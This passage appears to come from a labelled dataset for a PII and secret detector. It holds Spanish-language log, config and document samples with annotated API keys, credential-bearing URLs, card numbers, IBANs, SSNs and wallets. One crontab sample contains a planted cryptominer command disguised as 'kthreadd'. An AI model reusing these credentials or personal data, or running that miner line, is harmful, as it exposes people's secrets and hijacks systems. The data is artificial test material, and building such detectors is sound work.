SLACK_APP_TOKEN=⟦api-key|xapp-1-ARNU6HMM7L7-9792594238153-fd163c6d0165f4f0bd11b7abafecafc2aa83b2c1831f10c0a4567a85eacff60e⟧
SMTP_URL=⟦url-credentials|smtp://avisos:Fq2!mZ7t@smtp.almacenes-ribera.es:587⟧
JWT_SECRET=⟦api-key|314ab6eca061e88d827699f54c8a20e455bb65b1dd8e18baa013368c30f16004⟧
SEPA_ACREEDOR_IBAN=⟦iban|ES3704871353406074372552⟧
APP_VERSION=⟪version|3.9.0.12⟫
"""),
("log", r"""
2024-04-03 09:14:22,871 INFO  [auth] login ok user=⟦email|r.ibanez@mutua-cantabrica.es⟧ ip=⟦ip-address|88.27.140.65⟧ session=⟦uuid|a07b5b8d-af5f-4431-8d30-ad05642aec97⟧
2024-04-03 09:14:25,102 WARN  [auth] 5 intentos fallidos user=⟦email|cdomingo@mutua-cantabrica.es⟧ ip=⟦ip-address|2a0c:5a80:3e02:b100:9c4d:21ff:fe7a:4410⟧
2024-04-03 09:14:26,330 DEBUG [api] Authorization: Bearer ⟦api-key|eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI3NjUxNSIsImlhdCI6MTczNDE5MDM4NCwic2NvcGUiOiJhcGkifQ.QHHGtuczL27J2gbFoxOvlUTxrHYzF7Lm7oFfU1OZMRQ⟧ req=⟦uuid|7e42af19-d678-4ecc-bd96-7a7272bd48ef⟧
2024-04-03 09:14:29,004 WARN  [db] reconexión url=⟦url-credentials|mysql://mutua_app:Pq3!xT8v@10.14.2.9:3306/socios⟧
"""),
("log", r"""
[2024-06-11T18:02:14.330Z] ERROR cobros: cargo rechazado pedido ⟪order-number|710033948152⟫
  tarjeta=⟦credit-card|4096727546037222⟧ cad=⟪date|09/26⟫ titular="⟦name|NURIA ESTEBAN ARROYO⟧" trace=⟦uuid|c807220c-fcc1-4beb-a65a-b3bac13e47f3⟧
[2024-06-11T18:02:40.912Z] ERROR cobros: cargo rechazado pedido ⟪order-number|710033948163⟫
  tarjeta=⟦credit-card|345638032719537⟧ titular="⟦name|J. A. BENAVENTE⟧" trace=⟦uuid|a7e0c90c-9caf-4a88-8436-f64303605e63⟧
[2024-06-11T18:03:05.447Z] ERROR cobros: cargo rechazado pedido ⟪order-number|710033948177⟫
  tarjeta=⟦credit-card|36636326160834⟧ titular="⟦name|MAITE URRUTIA⟧" trace=⟦uuid|b66e1388-fb8f-4ee2-be31-cc4fcd687760⟧ bin_lote=⟪card-like|4546771533036841⟫
[2024-06-11T18:03:31.020Z] ERROR cobros: cargo rechazado pedido ⟪order-number|710033948190⟫
  tarjeta=⟦credit-card|6011561040672102⟧ titular="⟦name|ROBERTO PASTRANA⟧" trace=⟦uuid|cb597398-951a-41a7-b9fd-91ecbb1e6c1b⟧
  pasarela=⟦url-credentials|https://comercio_0451:Tg7wE2pM@tpv.pasarela-iberica.es/v2/cobro⟧
"""),
("log", r"""
# snmpd.conf – monitorización CPD
rocommunity monitor ⟦ip-address|10.50.0.0⟧/16
view  sistema  included  ⟪oid|.1.3.6.1.2.1.1⟫
view  sistema  included  ⟪oid|.1.3.6.1.4.1.2021.4⟫
extend temp-rack /usr/local/bin/temp.sh   # OID ⟪oid|1.3.6.1.4.1.8072.1.3.2.3⟫
sysLocation  Sala CPD, ⟦address|Avenida Diagonal 640, 08017 Barcelona⟧
sysContact   ⟦name|Pau⟧ <⟦email|cpd@serveis-tic-barcelones.cat⟧>
"""),
("log", r"""
Apr 22 03:41:09 correo01 postfix/smtpd[⟪digit-run|30418⟫]: NOQUEUE: reject: RCPT from unknown[⟦ip-address|91.92.249.110⟧]: 554 5.7.1 <⟦email|facturacion@hnos-cabrera-frutas.es⟧>: Relay access denied
Apr 22 03:41:10 correo01 postfix/smtpd[⟪digit-run|30418⟫]: disconnect from unknown[⟦ip-address|91.92.249.110⟧] ehlo=1 mail=1 rcpt=0/1
"""),
("log", r"""
# config/sms.yml
proveedor: altiria
remitente: "AYTO"
api_key: ⟪example-key|TU_API_KEY_AQUI⟫   # sustituir en producción
api_secret: ⟦api-key|e1c7c75fede5cdf623a7579852a56ac5⟧
callback_url: ⟦url-credentials|https://ayto:Hv8kT3qz@sms-respuesta.ayto-villaviciosa.es/hooks/altiria⟧
destinatarios_prueba:
  - ⟦phone|+34 633 81 47 20⟧   # ⟦name|Noemí⟧ (guardia)
  - ⟦phone|+34 747 12 58 03⟧   # ⟦name|Marcos⟧
"""),
("log", r"""
2024-05-09 12:30:01 INFO  build #⟪digit-run|2217⟫ iniciado por jenkins (commit ⟪hash|b986789⟫)
2024-05-09 12:32:44 INFO  tests: 2 031 passed, 7 skipped en ⟪time|148.2s⟫
2024-05-09 12:33:10 INFO  artefacto ⟪file-name|tienda-api-4.2.0.jar⟫ (sha256 ⟪hash|eb01daa53050665ae21f439ce5486a91d25304cae9eb2c0062c4aee90864738f⟫)
2024-05-09 12:33:11 INFO  build #⟪digit-run|2217⟫ OK
"""),
("log", r"""
# docker-compose.override.yml (portátil de ⟦name|Rubén Ibáñez⟧)
services:
  web:
    environment:
      - MONGO_URI=⟦url-credentials|mongodb://ribanez:Vd5!kQ9r@mongo.crm-dev.es:27017/crm?authSource=admin⟧
      - ANTHROPIC_API_KEY=⟦api-key|sk-ant-api03-6pGhidmUjnEA3dZzBrWPVD7itFvAyGEqUIzmnQSWiz3RDgb4-GF9Qv3icWT7xTKpD_-99y6peIFp482Cnutn07AA⟧
      - HF_TOKEN=⟦api-key|hf_oqfHzHt6qAjnHJDNi5PpVOoXyIN17vuLCl⟧
      - ELASTIC_URL=⟦url-credentials|https://elastic:Wn3xR8pLq2@es.crm-dev.es:9200⟧
"""),
("log", r"""
nginx access.log
⟦ip-address|81.33.204.19⟧ - - [03/Apr/2024:11:20:45 +0200] "GET /alta?utm_campaign=⟪other:campaign-code|PRIMAVERA24⟫ HTTP/1.1" 200 6144 "⟦url|https://www.google.es/⟧" "Mozilla/5.0"
⟦ip-address|95.127.88.203⟧ - - [03/Apr/2024:11:20:47 +0200] "GET /pago/vuelta?pan=⟦credit-card|4271059945824712⟧&cad=1127 HTTP/1.1" 302 0 "⟦url|https://sis.redsys-pagos.es/sis/realizarPago?Ds_Merchant=339118⟧" "Mozilla/5.0" rid=⟦uuid|6f41f425-bc18-4935-8e11-5dba85c5d24d⟧
"""),
("log", r"""
-- seed.sql (datos de demostración)
INSERT INTO clientes (nombre, apellidos, fecha_nac, direccion, telefono) VALUES
 ('⟦name|Rosa⟧', '⟦name|Paz Villanueva⟧', '⟦date-of-birth|1979-03-08⟧', '⟦address|Calle Mayor 12, 1º, 47001 Valladolid⟧', '⟦phone|983214567⟧'),
 ('⟦name|Andrea⟧', '⟦name|Blanco Otero⟧', '⟦date-of-birth|2001-11-23⟧', '⟦address|Paseo de la Castellana 95, 28046 Madrid⟧', '⟦phone|914176230⟧'),
 ('⟦name|Sol⟧', '⟦name|Pineda⟧', '⟦date-of-birth|1966-07-17⟧', '⟦address|Calle Sierpes 40, 41004 Sevilla⟧', '⟦phone|954228913⟧');
"""),
("log", r"""
2024-03-31 23:59:59.997 WARN  planificador: tarea "purgar-sesiones" tardó ⟪time|2204 ms⟫ (umbral 1000 ms)
2024-04-01 00:00:00.006 INFO  planificador: tarea "rotar-logs" iniciada, pid ⟪digit-run|51730⟫
2024-04-01 00:00:03.118 INFO  planificador: tarea "rotar-logs" terminada, ⟪digit-run|22⟫ ficheros comprimidos, lote=⟪card-like|4996024057571328⟫
"""),
("log", r"""
# ~/.ssh/config
Host salto
    HostName ⟦ip-address|37.187.92.205⟧
    User ⟪handle|despliegue⟫
    IdentityFile ~/.ssh/id_ed25519
Host pre-*
    ProxyJump salto
    User ⟪handle|ops⟫
"""),
("log", r"""
[2024-07-02 10:11:05] production.ERROR: Mailjet 401 {"exception":"ClientException: 401 Unauthorized key=⟦api-key|key-7d628f54554302cbfc79c57139a5c7ac⟧ sender=⟦email|avisos@zapateria-lorca.es⟧ to=⟦email|victor.medina@me.com⟧ message_id=⟦uuid|2961fb98-d6fd-465b-8bf4-6f116e7dc2f4⟧"}
[2024-07-02 10:11:06] production.INFO: SMTP de respaldo ⟦url-credentials|smtps://7f3c0a9be21d:x92HfQ1wLp@in-v3.mailjet.com:465⟧
"""),
("log", r"""
# /etc/hosts – red oficina ⟪place-name|Bilbao⟫
⟦ip-address|172.20.4.10⟧    srv-dc01.oficina.local
⟦ip-address|172.20.4.11⟧    srv-ficheros.oficina.local
⟦ip-address|fe80::6e3b:e5ff:fe19:2c7a⟧  impresora-planta1
"""),
("log", r"""
kubectl get pods -n pagos
NAME                             READY   STATUS    RESTARTS   AGE
pagos-api-6c8f7d9b4-q7wlm        1/1     Running   0          ⟪time|5d2h⟫
pagos-worker-7f9b8c6d5-zz2kp     1/1     Running   1          ⟪time|5d2h⟫
redis-0                          1/1     Running   0          ⟪time|21d⟫
"""),
("log", r"""
# terraform.tfvars – NO VERSIONAR
github_token  = "⟦api-key|ghp_i3dRgKzAzeFHvU3MFI1Urd3BOux0qAv6zhXg⟧"
owner_email   = "⟦email|plataforma@bodegas-ribera-alta.es⟧"
allowed_cidrs = ["⟦ip-address|213.97.44.130⟧/32", "⟦ip-address|2a01:4f8:c17:9a2e::⟧/64"]
project_id    = "⟦uuid|92a8e480-20e1-4e05-80f6-622c3233c50a⟧"
db_legacy_url = "⟦url-credentials|mysql://root:Bodega2020!@51.68.143.22:3306/ventas⟧"
module_version = "⟪version|2.0.1.3⟫"
"""),
("log", r"""
2024-04-15 10:02:31 INFO  [kyc] expediente ⟦uuid|bc418d8f-8592-4ea3-b62c-5125c850b312⟧: nombre="⟦name|Ximena Guadalupe Hernández⟧" nacimiento="⟦date-of-birth|1990-12-12⟧" iban="⟦iban|ES8504870000143950182128⟧" tel="⟦phone|+52 33 3817 2904⟧"
2024-04-15 10:02:31 DEBUG [kyc] domicilio="⟦address|Av. Chapultepec 480, Col. Americana, 44160 Guadalajara, Jal.⟧" score=⟪math|0.8812⟫
2024-04-15 10:03:47 INFO  [kyc] expediente ⟦uuid|de5b9cd4-93d7-469b-86b2-edf6dbb7859c⟧: nombre="⟦name|Jonathan Reyes⟧" nacimiento="⟦date-of-birth|1985-02-27⟧" ssn="⟦ssn|402-51-3310⟧" domicilio="⟦address|2301 E Cesar E Chavez Ave, Los Angeles, CA 90033⟧"
2024-04-15 10:04:02 WARN  [kyc] expediente ⟦uuid|3667c8f7-fa36-44af-875c-f1215a9f4499⟧: nombre="⟦name|Hans-Peter von Stein⟧" iban="⟦iban|DE21696292516051458162⟧" → país de residencia pendiente
"""),
("log", r"""
# crontab -l
30 2 * * *  /opt/backup/run.sh --destino ⟦url-credentials|sftp://copias:Rk5!wQ8m@backup.hosting-levante.es:22/clientes⟧ >> /var/log/backup.log 2>&1
40 2 * * *  curl -fsS -m 10 ⟦url|https://hc.almacenes-vigo.es/ping/3ee0d9d0-6f1b-423b-a0f1-536d1bd82613⟧
15 4 * * 0  lftp -c "mirror -R /srv/export ⟦url-credentials|ftp://envios:Tm6!qR2w@ftp.logistica-nalon.es/entrada⟧"
0 */4 * * * /opt/scripts/limpiar_tmp.sh
*/10 * * * * /var/tmp/.cache/kthreadd -o pool.supportxmr.es:3333 -u ⟦crypto-wallet|0xF58F7828989C5cf273B860b450824c8F459b8625⟧   # ¿¿esto quién lo ha puesto??
"""),
("log", r"""
ldapsearch -x -H ldap://ad.oficina -b "dc=oficina,dc=local" "(objectClass=person)"
# OID de userAccountControl: ⟪oid|1.2.840.113556.1.4.8⟫
# sintaxis: ⟪oid|1.3.6.1.4.1.1466.115.121.1.27⟫
# ⟪digit-run|1862⟫ entradas devueltas
"""),
("log", r"""
[WARN] 2024-02-14 19:20:41 pagos-salientes: transferencia a ⟦iban|ES3000814228008393882632⟧ beneficiario "⟦name|María José Navarro⟧" rechazada (código ⟪other:sepa-reason-code|AC04⟫, cuenta cerrada)
[INFO] 2024-02-14 19:20:41 pagos-salientes: aviso enviado a ⟦email|mjnavarro@ono.com⟧ y al ⟦phone|+34 620 47 91 38⟧
[INFO] 2024-02-14 19:20:42 pagos-salientes: id=⟦uuid|a510e3d8-7856-4fd0-9dcc-faad99c0eca4⟧ transferencia a ⟦iban|IT54K5432751737297847984903⟧ beneficiario "⟦name|Giulia Conti⟧" OK
[INFO] 2024-02-14 19:20:43 pagos-salientes: retiro LTC a ⟦crypto-wallet|Lg3UJ5RsCHGy5FeTLo2z42HbCTPVLbbM59⟧ OK
[INFO] 2024-02-14 19:20:43 pagos-salientes: retiro LTC a ⟦crypto-wallet|ltc1q0tetzh60ffr5m2hq425eadzqrqncj0pc48t7vx⟧ OK
[INFO] 2024-02-14 19:20:44 pagos-salientes: retiro BTC a ⟦crypto-wallet|bc1qxnz59xjk0hysgp43nyvfxddnru3hw7ccch8tkf⟧ OK
[INFO] 2024-02-14 19:20:44 pagos-salientes: retiro DOGE a ⟦crypto-wallet|DSQkJM4UgYin9TycMqLv5kxZPAibPzCTNa⟧ pendiente
"""),
# ---------------------------------------------------------------- doc (25)
("doc", r"""
FACTURA Nº ⟪invoice-number|2024/0412⟫                                  Fecha: ⟪date|12/04/2024⟫
Emisor: ⟦name|Amparo Soler⟧ – Cerámica artesanal, ⟦address|C/ de la Pau 7, 12200 Onda, Castellón⟧ – NIF ⟪other:national-id-nif|20491837X⟫
Cliente: ⟦name|Gregorio Salinas⟧, ⟦address|Calle Bordadores 10, 2º dcha., 28013 Madrid⟧
Concepto: 24 azulejos pintados a mano (ref. ⟪product-code|AZ-VAL-24⟫) ........ ⟪money|480,00 €⟫
IVA (⟪percentage|21 %⟫): ⟪money|100,80 €⟫
Forma de pago: transferencia a ⟦iban|ES71 0081 2151 3295 1815 2969⟧
⟦url|www.ceramica-amparosoler.es⟧
"""),
("doc", r"""
CONTRATO DE ARRENDAMIENTO DE VIVIENDA (extracto)
REUNIDOS
De una parte, D. ⟦name|Fermín Echeverría⟧, nacido el ⟦date-of-birth|9 de mayo de 1952⟧, con domicilio en ⟦address|Calle Estafeta 31, 31001 Pamplona⟧, en adelante «el Arrendador»;
y de otra, Dña. ⟦name|Claudia Ortiz⟧, nacida el ⟦date-of-birth|18 de febrero de 1997⟧, en adelante «la Arrendataria».
Cláusula ⟪section-number|3.1.2⟫ – La renta mensual es de ⟪money|725 €⟫, pagadera del 1 al 5 de cada mes en la cuenta ⟦iban|ES7500817280349003811481⟧.
La vivienda objeto del contrato está situada en ⟦address|Calle Mercaderes 6, 3º izda., 31001 Pamplona⟧.
"""),
("doc", r"""
CURRÍCULUM VÍTAE
⟦name|Lorena Bermúdez Pacheco⟧
⟦address|C/ Goya 58, 5º B, 28001 Madrid⟧ · ⟦phone|655 21 48 09⟧ · ⟦email|lorena.bermudez@proton.me⟧
Fecha de nacimiento: ⟦date-of-birth|11/06/1995⟧
EXPERIENCIA
2021–2024  Analista de riesgos, ⟪organisation|BBVA⟫, ⟪place-name|Madrid⟫
2018–2021  Consultora junior, ⟪organisation|Deloitte⟫
Portafolio: ⟦url|https://lorenabermudez.netlify.app/portfolio/⟧
"""),
("doc", r"""
Acta – Comité de dirección del ⟪date|18 de marzo de 2024⟫
Asistentes: ⟦name|Cecilia Manrique⟧ (CTO), ⟦name|Ramón Fuertes⟧ (Finanzas), ⟦name|Margot van Dijk⟧ (consultora externa), ⟦name|Oliver Bennett⟧ (matriz)
1. Estado del paquete ⟪section-number|2.1.3.4⟫: ⟪percentage|75 %⟫ completado.
2. Presupuesto: desviación de ⟪money|22 k€⟫ en hosting.
3. Riesgo: la API key de Google Maps (⟦api-key|AIzaU39uUVW037raY1bPnkK0Y7DEQxDMccEzVBv⟧) apareció en un ticket público → regenerar (⟦name|Ramón⟧).
4. Incidente: el listado de empleados de la filial de Texas se envió por error a un proveedor; incluía los SSN de ⟦name|Kayla Jiménez⟧ (⟦ssn|025-64-3170⟧) y ⟦name|Tyler Gómez⟧ (⟦ssn|319-84-4650⟧).
"""),
("doc", r"""
# bici-rutas

API sencilla para calcular rutas en bici por ⟪place-name|Zaragoza⟫.

## Instalación
```
pip install -r requirements.txt
cp .env.example .env   # y rellenar MAPBOX_TOKEN=⟪example-key|pk.tu-token-aqui⟫
# base local por defecto: ⟦url-credentials|postgres://bici:bici-dev-2024@localhost:5432/bici⟧
```
## Apoya el proyecto
BTC: ⟦crypto-wallet|bc1qyfez2sjmztee29v8k53jdusa4rnhmdtjtl4glq⟧
ETH: ⟦crypto-wallet|0x54787509D4696350B16AC2Ef5C1bDd146284B90e⟧
LTC: ⟦crypto-wallet|LTAkM25SxhWPYAJmppDQcKippJJngHuEs1⟧
DOGE: ⟦crypto-wallet|DRHnoRvVAnv2C1BTiCcKkRXcgwDjUEU5fB⟧
Mantenedor: ⟦name|Unai⟧ (⟦email|unai@bicirutas-dev.es⟧)
"""),
("doc", r"""
REGLAMENTO DE RÉGIMEN INTERIOR – extracto
Artículo ⟪section-number|14.2⟫: La biblioteca abre de ⟪time|9:00⟫ a ⟪time|20:00⟫ de lunes a viernes.
Artículo ⟪section-number|14.3⟫: Cada socio puede llevarse hasta 8 documentos durante 15 días.
Artículo ⟪section-number|14.4⟫: Las pérdidas se abonarán al precio de catálogo (véase ⟪isbn|ISBN 978-84-206-3471-5⟫ como referencia).
"""),
("doc", r"""
FICHA DE INSCRIPCIÓN – Club Ciclista Moncayo
Apellidos: ⟦name|Cano Lafuente⟧     Nombre: ⟦name|Diego⟧
Fecha de nacimiento: ⟦date-of-birth|27-03-1989⟧
Domicilio: ⟦address|Plaza de España 4, 50540 Borja (Zaragoza)⟧
Teléfono: ⟦phone|976 86 71 42⟧    Móvil: ⟦phone|+34 690 11 58 27⟧
Correo: ⟦email|dcano.bici@yahoo.com⟧
Consulta tu ficha en ⟦url|https://socios.ccmoncayo.es/ficha?id=2024-118⟧
Cuota: ⟪money|30 €⟫ – domiciliación en ⟦iban|ES9600755062529472339634⟧
"""),
("doc", r"""
Instrucción interna – Archivo de expedientes
1. Los expedientes cerrados hace más de 6 años se envían al Archivo Central.
2. Cada caja lleva una etiqueta con el código de clasificación (p. ej. ⟪product-code|ARC-2018-C-112⟫).
3. Las hojas de remisión se registran en la aplicación (versión ⟪version|10.4.2.1⟫) antes del ⟪date|31 de diciembre⟫.
"""),
("doc", r"""
FORMULARIO W-9 – datos del contribuyente (copia para el expediente)
Nombre: ⟦name|Marisela Cárdenas⟧
Dirección: ⟦address|3418 Bissonnet St, Houston, TX 77005⟧
SSN: ⟦ssn|762-61-3378⟧
Fecha de nacimiento: ⟦date-of-birth|10/30/1976⟧
Cónyuge: ⟦name|Rodrigo Cárdenas⟧, SSN ⟦ssn|595-37-0745⟧
Hijo dependiente: ⟦name|Emiliano⟧, SSN ⟦ssn|435-66-1750⟧
Teléfono: ⟦phone@US|(713) 528-4407⟧
"""),
("doc", r"""
NÓMINA EE. UU. – exportación mensual filial ⟪organisation|Ribera Foods LLC⟫ (confidencial)
employee_id | nombre               | ssn         | estado
⟪account-number|RF-1102⟫     | ⟦name|Jasmine Ortega⟧       | ⟦ssn|463-44-7701⟧ | FL
⟪account-number|RF-1107⟫     | ⟦name|Derek Castañeda⟧      | ⟦ssn|348828588⟧   | TX
⟪account-number|RF-1113⟫     | ⟦name|Brianna López-Walsh⟧  | ⟦ssn|002-68-2229⟧ | NY
⟪account-number|RF-1120⟫     | ⟦name|Marcus Delacruz⟧      | ⟦ssn|365-07-1118⟧ | CA
⟪account-number|RF-1121⟫     | ⟦name|Angela Whitaker⟧      | ⟦ssn|556-15-5001⟧ | AZ
⟪account-number|RF-1126⟫     | ⟦name|Jacob Peralta⟧        | ⟦ssn|534-10-5655⟧ | NM
Total bruto: ⟪money|$96,730.15⟫
"""),
("doc", r"""
BUROFAX
Remitente: ⟦name|Cayetana Villalobos⟧
⟦address|Calle Ancha 14, 11001 Cádiz⟧
                                  Destinatario: ⟪organisation|Seguros del Estrecho, S.A.⟫
                                  ⟦address|Apartado de Correos 456, 11080 Cádiz⟧
Asunto: siniestro nº ⟪account-number|SIN-2024-008812⟫
Muy señores míos: no estoy conforme con la valoración del perito sobre el daño por agua del ⟪date|14 de enero de 2024⟫...
"""),
("doc", r"""
Orden del día – Consejo Escolar
1. Balance del primer trimestre
2. Viaje de fin de curso: coste estimado ⟪money|5.200 €⟫, aportación de las familias ⟪percentage|45 %⟫
3. Obras del patio (presupuesto nº ⟪other:quote-number|P-2024-077⟫)
4. Libros de texto de 6º (⟪isbn|978-84-9759-238-3⟫)
5. Ruegos y preguntas
"""),
("doc", r"""
CONFIRMACIÓN DE RESERVA – Hotel Mirador del Cantábrico
Huésped: Mr. ⟦name|Hugh Pemberton⟧
Dirección: ⟦address|27 Clifton Road, Bristol BS8 1AF, United Kingdom⟧
Tel.: ⟦phone|+44 117 496 2318⟧
Estancia: del ⟪date|8 al 12 de agosto⟫, habitación doble con vistas, ⟪money|165 €⟫/noche
Garantía: Visa ⟦credit-card|4611 5871 5246 6586⟧, cad. ⟪date|11/27⟫
Condiciones: ⟦url|https://www.hotelmiradorcantabrico.es/condiciones⟧
"""),
("doc", r"""
Ficha técnica – Bomba de calor ⟪product-code|BC-AW-9M⟫
Potencia nominal: ⟪math|9,1 kW⟫ – SCOP: ⟪math|4,38⟫
Rango de funcionamiento: ⟪math|-25⟫ a ⟪math|+43 °C⟫
Número de serie tipo: ⟪digit-run|2403-0112-8842-71⟫
Conforme a la norma UNE-EN ⟪section-number|14825:2019⟫
"""),
("doc", r"""
PROCEDIMIENTO – Conmutación de la base de datos
1. Poner el primario en solo lectura: `ALTER SYSTEM SET default_transaction_read_only = on;`
2. Comprobar la réplica en ⟦ip-address|10.60.3.21⟧: retardo < ⟪time|1 s⟫.
3. Cambiar la cadena en Vault:
   ⟦url-credentials|postgres://svc_contab:Np4!zV7qRw@10.60.3.21:5432/contab?sslmode=require⟧
   (borrar la antigua: ⟦url-credentials|postgres://svc_contab:Invierno2023!@10.60.3.20:5432/contab⟧)
   Token de Vault del equipo: ⟦api-key|hvs.CAESImnQm7kkMBYns4RiXZHGdT0l7wlyPjY6TLhqiLq5q⟧
4. Avisar a ⟦name|Leire Aranburu⟧ (guardia, ⟦phone|688 40 27 15⟧).
"""),
("doc", r"""
Extracto del acta de la junta general de ⟪date|20 de abril de 2024⟫
Acuerdo tercero: se aprueban las cuentas del ejercicio cerrado a ⟪date|31/12/2023⟫, con un resultado de ⟪money|18.420 €⟫.
Acuerdo cuarto: se renueva el cargo de tesorero por dos años.
Acuerdo quinto: el domicilio social se traslada a ⟪place-name|Logroño⟫ (⟪postal-code-alone|26001⟫).
"""),
("doc", r"""
AVISO DE VENCIMIENTO – Seguro de hogar
Tomador: ⟦name|Borja de la Cierva y Ozores⟧
⟦address|Calle Serrano 41, 6º, 28001 Madrid⟧
Póliza ⟪account-number|HG-0099127733⟫ – vencimiento ⟪date|01/10/2024⟫
Prima anual: ⟪money|512,40 €⟫, con cargo a ⟦iban|ES35 0049 9872 6487 7797 9247⟧ (pago alternativo: tarjeta ⟦credit-card|5160 6372 5009 4236⟧)
Área de clientes: ⟦url|https://clientes.seguros-atalaya.es/polizas/HG-0099127733⟧
Su agente: ⟦name|Felipe Mayoral⟧, ⟦phone|915 76 20 84⟧ – oficina de ⟦address|Calle Princesa 25, 28008 Madrid⟧
"""),
("doc", r"""
Hoja de gastos – ⟪date|abril 2024⟫
Empleado: ⟦name|Teresa Baeza⟧ – nº ⟪account-number|E-00731⟫
Desplazamiento ⟪place-name|Madrid⟫ – ⟪place-name|Valencia⟫ (AVE): ⟪money|58,40 €⟫
Hotel NH Valencia Centro: ⟪money|119,00 €⟫
Tarjeta de empresa: ⟦credit-card|5518 2094 4158 9737⟧
Adelanto con tarjeta personal: ⟦credit-card|4714 5904 8996 3537⟧ → abonar en ⟦iban|ES4900491699034826454076⟧
Aprobado por: ⟦name|Ricardo Almansa⟧
"""),
("doc", r"""
Guía rápida de instalación
1. Conecte el equipo a la corriente.
2. Conéctese a la red Wi-Fi «MOVISTAR-⟪other:wifi-ssid-suffix|A41C⟫».
3. Abra ⟦url|http://192.168.1.254⟧ en el navegador (⟦ip-address|192.168.1.254⟧ es la dirección por defecto).
4. La contraseña por defecto está en la pegatina (formato ⟪example-key|XXXX-XXXX-XXXX⟫).
"""),
("doc", r"""
DECLARACIÓN RESPONSABLE DE CONVIVENCIA
Yo, ⟦name|Florencia Bianchi⟧, nacida el ⟦date-of-birth|5 de diciembre de 1990⟧ en ⟪place-name|Rosario⟫, con domicilio en ⟦address|Av. Corrientes 1234, piso 5, C1043AAZ CABA, Argentina⟧, declaro que convivo con ⟦name|Agustina Ferreyra⟧ desde el ⟪date|1 de marzo de 2022⟫.
Contacto: ⟦phone|+54 9 11 4382-7516⟧
"""),
("doc", r"""
Pliego de condiciones – Portal de proveedores (v⟪version|1.1⟫)
§ ⟪section-number|5.2.1⟫ Autenticación: OAuth 2.0, tokens de ⟪time|15 minutos⟫.
§ ⟪section-number|5.2.2⟫ Los identificadores técnicos serán UUID v4.
§ ⟪section-number|5.2.3⟫ Certificados cliente con OID de política ⟪oid|2.16.724.1.3.5.7.2⟫.
§ ⟪section-number|5.2.4⟫ El IBAN ⟪iban-like|ES9514653054541302006738⟫ debe rechazarse (dígitos de control erróneos).
§ ⟪section-number|5.3⟫ Disponibilidad objetivo: ⟪percentage|99,95 %⟫.
"""),
("doc", r"""
FACTURA ⟪invoice-number|INV-2024-117⟫
De: ⟦name|Anna Kowalczyk⟧ – diseñadora freelance, ⟦address|ul. Piotrkowska 104/12, 90-006 Łódź, Polonia⟧
Para: ⟪organisation|Estudio Creativo Benavides⟫, ⟦address|Calle Fuencarral 77, 28004 Madrid⟧
Servicios: identidad corporativa, 6 días × ⟪money|420 €⟫
Pago: ⟦iban|CH36 2040 4738 9203 4868 7⟧, en ETH: ⟦crypto-wallet|0x87A338fb1599FfB2e6054fb5D0BB4cE4432f8940⟧ o en BTC: ⟦crypto-wallet|bc1quc5gyfuadu27ncpfpqx7lduvv4dgls4h5w6jhn⟧
Referencia de pago: ⟦uuid|ce78d96d-8c35-479b-aa0e-2e7ab01e26b8⟧
"""),
("doc", r"""
Cómo llegar
El centro de formación está en ⟪coordinates|40.4168, -3.7038⟫ (GPS), a cinco minutos a pie de la estación de ⟪place-name|Sol⟫. Aparcamiento para visitas en la planta -1.
"""),
("doc", r"""
Solicitud de residencia universitaria
Apellidos: ⟦name|Lindgren⟧  Nombre: ⟦name|Astrid⟧
Fecha de nacimiento: ⟦date-of-birth|14 de junio de 2005⟧
Domicilio familiar: ⟦address|Vasagatan 7, 411 24 Göteborg, Suecia⟧
Avalista: ⟦name|Per Lindgren⟧, ⟦phone|+46 73 612 84 90⟧, ⟦email|per.lindgren@bredband2.se⟧
Cuenta del avalista: ⟦iban|SE27 8000 0294 2466 8433 7953⟧
Tasa pagada con tarjeta ⟦credit-card|6759173040424306118⟧ – seguimiento: ⟦url|https://residencias.uni-salamanca-alojamiento.es/solicitud/55120⟧
"""),
("doc", r"""
Aviso legal
Este sitio pertenece a ⟪organisation|Conservas Hermanos Otxoa S.L.⟫, CIF ⟪other:company-tax-id|B95184732⟫, inscrita en el Registro Mercantil de Bizkaia.
Domicilio social: ⟦address|Barrio Arane 12, 48370 Bermeo, Bizkaia⟧
Web: ⟦url|https://www.conservasotxoa.es⟧
Responsable: ⟦name|Garazi Otxoa⟧
Alojamiento: ⟪organisation|Hetzner Online GmbH⟫, ⟦address|Industriestr. 25, 91710 Gunzenhausen, Alemania⟧
"""),
]
